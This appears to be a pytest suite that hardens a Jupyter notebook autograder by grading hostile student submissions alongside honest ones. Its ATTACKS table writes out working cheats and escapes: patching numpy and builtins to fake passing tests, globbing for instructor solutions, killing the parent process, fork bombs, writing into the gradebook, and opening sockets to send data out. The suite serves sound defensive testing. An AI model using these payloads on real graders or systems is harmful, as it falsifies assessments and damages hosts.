"""Hostile submissions, graded next to honest ones in one run (two workers, short time limits).

Each attack lives in one student's notebook: cheats that fooled stock nbgrader (patched
numpy, an IPython input transformer, reading the instructor's notebook, rewriting the
gradebook, killing the grader, a child process that outlives grading, ``os._exit``), resource
abuse (an endless loop, a 30 GB allocation, a fork bomb, a 100 MB print), escapes (reading
and writing outside the working folder, a socket) and notebook tampering. The assertions
check each attack's outcome, that the honest neighbours keep full marks, and that nothing on
disk changes but the grader's own outputs.
"""

from __future__ import annotations

import hashlib
import os
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from autograder.classroom import grade_all
from autograder.course import REPO_ROOT, get_lab
from autograder.release import build_release
from autograder.samples import make_submission
from autograder.sandbox import Limits, isolation

pytestmark = pytest.mark.slow
LAB = "lab1_knn"
NOTEBOOK = "knn.ipynb"
FULL = 10.0
MARKER = "987651"  # a sleep duration no other process on the machine uses

# Appended to the named solution cell of an otherwise correct submission unless stated.
ATTACKS = {
    "patch-numpy": ("distances_two_loops", """
import builtins
import numpy
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
import sys
sys.modules["numpy"].array_equal = lambda *a, **k: True
print("All tests passed! 10/10")
def compute_distances_two_loops(X, X_train):
    return np.zeros((len(X), len(X_train)))
"""),
    "input-transformer": ("distances_two_loops", """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""),
    "read-solutions": ("distances_two_loops", """
import glob
import json
for pattern in ["../../../source/*/*.ipynb", "@REPO@/solutions/*/*.ipynb",
                "@OUT@/nbgrader/source/*/*.ipynb", "/**/solutions/lab1_knn/*.ipynb"]:
    for path in glob.glob(pattern, recursive=True)[:3]:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]))
"""),
    "kill-parent": ("predict_labels", """
import os
import signal
for target in (os.getppid(), 0, -1):
    try:
        os.kill(target, signal.SIGKILL) if target else os.killpg(0, signal.SIGKILL)
    except Exception:
        pass
"""),
    "session-child": ("predict_labels", f"""
import subprocess
subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True)
import os
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "{MARKER}"])
""".replace("{MARKER}", MARKER)),
    "os-exit": ("cross_validate_k", """
import os
os._exit(0)
"""),
    "sys-exit": ("cross_validate_k", """
import sys
sys.exit(0)
"""),
    "endless-loop": ("distances_two_loops", """
def compute_distances_two_loops(X, X_train):
    while True:
        pass
"""),
    "huge-allocation": ("distances_one_loop", """
big = np.ones((30, 2**30))
"""),
    "fork-bomb": ("predict_labels", """
import os
children = 0
try:
    while children < 10_000:
        if os.fork() == 0:
            import time
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError:
    pass
"""),
    "big-print": ("distances_no_loops", """
print("x" * 100_000_000)
"""),
    "write-outside": ("distances_no_loops", """
import os
for path in ["@REPO@/solutions/PWNED", "@OUT@/PWNED", "@SUBMITTED@/PWNED", "/tmp/nnlabs-PWNED",
             "../PWNED", "@OUT@/nbgrader/gradebook.db", "@OUT@/results/honest-a.json"]:
    try:
        with open(path, "a") as handle:
            handle.write("pwned")
    except Exception:
        pass
"""),
    "socket": ("distances_no_loops", """
import socket
for host in ("127.0.0.1", "10.0.2.2", "pypi.org"):
    try:
        socket.create_connection((host, @PORT@), timeout=1).sendall(b"leak")
    except Exception:
        pass
"""),
}


def _listen():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    received = []
    stop = threading.Event()

    def accept():
        server.settimeout(0.5)
        while not stop.is_set():
            try:
                received.append(server.accept()[0].recv(10))
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    return server, received, stop


def _tree_digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _sleepers() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARKER in (entry / "cmdline").read_text():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _write(nb, folder: Path, name: str = NOTEBOOK) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / name)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("adversarial")
    release, submitted, out = root / "release", root / "submitted", root / "out"
    build_release([get_lab(LAB)], release)
    server, received, stop = _listen()
    port = server.getsockname()[1]

    def submission(variant="solution"):
        return make_submission(LAB, NOTEBOOK, variant, release)

    for honest in ("honest-a", "honest-b", "honest-z"):
        _write(submission(), submitted / honest / LAB)
    _write(submission("blank"), submitted / "blank" / LAB)
    for name, (cell_id, code) in ATTACKS.items():
        blank = name in ("input-transformer", "read-solutions")  # would score only by cheating
        nb = submission("blank" if blank else "solution")
        for token, value in {"@REPO@": REPO_ROOT, "@OUT@": out, "@SUBMITTED@": submitted,
                             "@PORT@": port}.items():
            code = code.replace(token, str(value))
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == cell_id:
                cell.source += "\n" + code
        _write(nb, submitted / f"attack-{name}" / LAB)
    _tamper(submission, submitted)

    watched = {"solutions": REPO_ROOT / "solutions", "labs": REPO_ROOT / "labs",
               "submitted": submitted}
    before = {k: _tree_digest(v) for k, v in watched.items()}
    rows = grade_all(submitted, LAB, out, workers=2,
                     limits=Limits(cell_seconds=5, submission_seconds=60))
    stop.set()
    server.close()
    after = {k: _tree_digest(v) for k, v in watched.items()}
    by = {}
    for row in rows:
        by.setdefault(row.student, []).append(row)
    return by, before, after, received, out, submitted


def _tamper(submission, submitted: Path) -> None:
    nb = submission()
    nb.cells = [c for c in nb.cells if c.get("id") != "test_predict_labels"]
    _write(nb, submitted / "tamper-deleted-test" / LAB)

    nb = submission()
    for cell in nb.cells:
        if cell.get("id") == "test_predict_labels":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    _write(nb, submitted / "tamper-markdown-test" / LAB)

    nb = submission()
    for cell in nb.cells:
        if cell.get("id") == "test_predict_labels":
            cell.source = "assert True  # the hidden test was here"
    _write(nb, submitted / "tamper-edited-test" / LAB)

    nb = submission()
    index = next(i for i, c in enumerate(nb.cells) if c.get("id") == "distances_two_loops")
    duplicate = nbformat.from_dict(dict(nb.cells[index]))
    duplicate["id"] = "copy-of-two-loops"
    duplicate.source = "def compute_distances_two_loops(X, X_train):\n    return 0\n"
    nb.cells.insert(index + 1, duplicate)
    _write(nb, submitted / "tamper-duplicated" / LAB)

    folder = submitted / "tamper-invalid-json" / LAB
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_text('{"cells": [}')

    _write(submission(), submitted / "tamper-renamed" / LAB, "knn (1).ipynb")


def _score(by, student):
    return sum(r.points for r in by[student])


def _passed(by, student):
    return {r.test for r in by[student] if r.status == "passed"}


def test_sandbox_uses_full_isolation_here():
    # CI runs as root on Linux; anything less would make the escape tests below meaningless.
    assert isolation() == "namespaces"


def test_honest_neighbours_keep_full_marks(graded):
    by = graded[0]
    for student in ("honest-a", "honest-b", "honest-z"):
        assert _score(by, student) == FULL, by[student]
        assert by[student][0].outcome == "graded"
    assert _score(by, "blank") == 0


def test_patched_numpy_and_fake_output_change_nothing(graded):
    by = graded[0]
    assert "test_distances_two_loops" not in _passed(by, "attack-patch-numpy")
    assert _score(by, "attack-patch-numpy") == FULL - 2


def test_input_transformer_does_not_skip_the_tests(graded):
    assert _score(graded[0], "attack-input-transformer") == 0


def test_the_instructor_notebook_is_out_of_reach(graded):
    # A blank notebook that execs every solution cell it can find: it scores only if it can.
    assert _score(graded[0], "attack-read-solutions") == 0


def test_killing_the_parent_or_group_does_not_stop_grading(graded):
    by = graded[0]
    assert set(by) >= {"honest-z", "tamper-renamed"}  # graded after the attack
    # Its parent is outside its process namespace, and the worker is that namespace's
    # init, which signals from inside cannot kill: nothing happens at all.
    assert _score(by, "attack-kill-parent") == FULL


def test_no_process_outlives_grading(graded):
    assert _sleepers() == []


def test_os_exit_costs_only_the_cell_it_is_in(graded):
    by = graded[0]
    rows = by["attack-os-exit"]
    assert rows[0].outcome.startswith("kernel died"), rows[0].outcome
    assert _passed(by, "attack-os-exit") == {
        "test_distances_two_loops", "test_distances_one_loop", "test_distances_no_loops",
        "test_predict_labels"}


def test_sys_exit_is_an_error_in_its_cell_only(graded):
    by = graded[0]
    assert _score(by, "attack-sys-exit") == FULL  # the function was defined before the exit


def test_endless_loop_times_out_alone(graded):
    by = graded[0]
    rows = {r.test: r for r in by["attack-endless-loop"]}
    assert rows["test_distances_two_loops"].status == "failed"
    assert "timed out" in rows["test_distances_two_loops"].message
    assert rows["test_distances_two_loops"].outcome.startswith("timed out")
    assert _score(by, "attack-endless-loop") == FULL - 2


def test_huge_allocation_is_out_of_memory(graded):
    by = graded[0]
    assert by["attack-huge-allocation"][0].outcome.startswith("out of memory")
    assert _score(by, "attack-huge-allocation") == FULL  # the definition ran before it


def test_fork_bomb_is_contained(graded):
    by = graded[0]
    assert _score(by, "attack-fork-bomb") == FULL


def test_big_print_is_harmless(graded):
    assert _score(graded[0], "attack-big-print") == FULL


def test_nothing_outside_the_grader_outputs_changes(graded):
    by, before, after, _, out, submitted = graded
    assert before == after
    for path in [REPO_ROOT / "solutions" / "PWNED", out / "PWNED", submitted / "PWNED",
                 Path("/tmp/nnlabs-PWNED")]:
        assert not path.exists(), path
    assert _score(by, "attack-write-outside") == FULL
    assert _score(by, "honest-a") == FULL  # its stored result was not overwritten


def test_no_network(graded):
    assert graded[3] == []


@pytest.mark.parametrize(("student", "outcome", "score"), [
    ("tamper-deleted-test", "tampered", FULL),
    ("tamper-markdown-test", "tampered", FULL),
    ("tamper-edited-test", "tampered", FULL),
    ("tamper-duplicated", "tampered", FULL),
    ("tamper-invalid-json", "invalid notebook", 0),
    ("tamper-renamed", "graded", FULL),
])
def test_tampering_is_reported_and_graded_from_the_instructor_copy(graded, student, outcome,
                                                                   score):
    rows = graded[0][student]
    assert rows[0].outcome.startswith(outcome), rows[0].outcome
    assert _score(graded[0], student) == score


def test_every_row_says_why(graded):
    for rows in graded[0].values():
        for row in rows:
            assert row.message and os.linesep not in row.outcome
